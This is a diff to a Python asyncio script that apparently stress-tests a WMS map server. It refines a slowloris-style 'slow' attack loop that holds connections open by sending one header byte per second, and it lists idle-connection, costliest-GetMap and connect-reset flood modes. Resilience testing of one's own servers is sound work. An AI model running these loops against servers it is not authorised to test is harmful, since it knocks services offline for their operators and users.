@@ -3,6 +3,7 @@
   maxcost N   N loops of the costliest GetMap the budget allows, giving up after 3 s
   idle N      N connections opened and held without sending a byte
   slow N      N connections sending their request head one byte per second
+              (a refused one retried after 1 s)
   reset       connect and reset (SO_LINGER 0), as fast as possible
 """
 import asyncio
@@ -47,10 +48,17 @@ async def idle_one(held):
 
 
 async def slow_loop():
+    # Held connections are what this attack measures: a connection the server
+    # refused at once is retried after a second (a flood is attack "reset"),
+    # one it closed after holding it is replaced at once.
     while True:
         try:
             reader, writer = await asyncio.open_connection(host, port)
             writer.write(b"GET /wms HTTP/1.1\r\nHost: x\r\n")
+            await writer.drain()
+            await asyncio.sleep(0.2)
+            if reader.at_eof():
+                raise ConnectionResetError
             while True:
                 await asyncio.sleep(1)
                 writer.write(b"X")
@@ -58,7 +66,7 @@ async def slow_loop():
                 if reader.at_eof():
                     break
         except OSError:
-            await asyncio.sleep(0.1)
+            await asyncio.sleep(1)
 
 
 async def reset_loop():
